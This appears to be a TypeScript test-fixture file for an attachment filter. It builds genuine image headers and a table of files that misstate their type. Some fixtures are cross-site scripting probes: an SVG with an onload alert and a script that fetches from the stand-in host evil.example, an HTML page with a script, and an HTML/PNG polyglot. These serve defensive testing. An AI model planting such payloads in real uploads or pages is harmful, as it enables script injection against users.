// Pictures for stories about attachments: real ones that a browser draws, and files that only claim to be one.
import { createHash } from 'node:crypto'
import { crc32, deflateSync } from 'node:zlib'
import { parseSha256, type Sha256 } from '../../contracts/attachment-names.ts'

export const sha256Of = (bytes: Uint8Array): Sha256 => parseSha256(createHash('sha256').update(bytes).digest('hex'))!

/** A PNG of one colour. `padding` adds so many bytes that do not compress, as an ancillary chunk. */
export function png(width: number, height: number, rgb: readonly [number, number, number], padding = 0): Buffer {
  const row = Buffer.concat([Buffer.of(0), Buffer.from(Array.from({ length: width }, () => rgb).flat())])
  const header = Buffer.alloc(13)
  header.writeUInt32BE(width, 0)
  header.writeUInt32BE(height, 4)
  header.set([8, 2, 0, 0, 0], 8)
  const noise = Buffer.alloc(padding, 'noise')
  return Buffer.concat([
    Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
    chunk('IHDR', header),
    ...(padding > 0 ? [chunk('noIs', noise)] : []),
    chunk('IDAT', deflateSync(Buffer.concat(Array.from({ length: height }, () => row)))),
    chunk('IEND', Buffer.alloc(0)),
  ])
}

function chunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data])
  const frame = Buffer.alloc(8)
  frame.writeUInt32BE(data.byteLength, 0)
  frame.writeUInt32BE(crc32(body), 4)
  return Buffer.concat([frame.subarray(0, 4), body, frame.subarray(4)])
}

const avif = (...brands: string[]): Buffer =>
  Buffer.concat([
    Buffer.of(0, 0, 0, 16 + 4 * (brands.length - 1)),
    Buffer.from(`ftyp${brands[0]}\0\0\0\0${brands.slice(1).join('')}`, 'latin1'),
    Buffer.alloc(40),
  ])

/** The first bytes of each type that is kept. */
export const KEPT: Readonly<Record<string, Buffer>> = {
  'image/png': png(1, 1, [200, 30, 30]),
  'image/jpeg': Buffer.concat([Buffer.of(0xff, 0xd8, 0xff, 0xe0), Buffer.alloc(80, 1)]),
  'image/gif': Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64'),
  'image/webp': Buffer.from(
    'RIFF\x1a\0\0\0WEBPVP8L\x0d\0\0\0\x2f\0\0\0\x10\x07\x10\x11\x11\x88\x88\xfe\x07\0',
    'latin1',
  ),
  'image/avif': avif('mif1', 'miaf', 'avif'),
}

export const SVG_WITH_SCRIPT =
  '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>fetch("https://evil.example")</script></svg>'

/** Files that lie about what they are. */
export const LIES: Readonly<Record<string, Buffer>> = {
  'an SVG with a script': Buffer.from(SVG_WITH_SCRIPT),
  'an SVG after a byte order mark and a prologue': Buffer.from(`\uFEFF<?xml version="1.0"?>\n${SVG_WITH_SCRIPT}`),
  'a web page': Buffer.from('<!doctype html><script>alert(1)</script>'),
  'a web page that ends like a PNG': Buffer.concat([Buffer.from('<html>'), png(1, 1, [0, 0, 0])]),
  'a PNG without its last signature byte': png(1, 1, [0, 0, 0]).subarray(0, 7),
  'a RIFF file of sound': Buffer.from('RIFF\x24\0\0\0WAVEfmt '),
  'a film': avif('isom', 'mp41'),
  'a film with the word avif behind its list of brands': Buffer.concat([avif('isom'), Buffer.from('avif')]),
  'a HEIC photograph': avif('heic', 'mif1'),
  'a PDF': Buffer.from('%PDF-1.7\n'),
  'two letters': Buffer.from('BM'),
  nothing: Buffer.alloc(0),
}
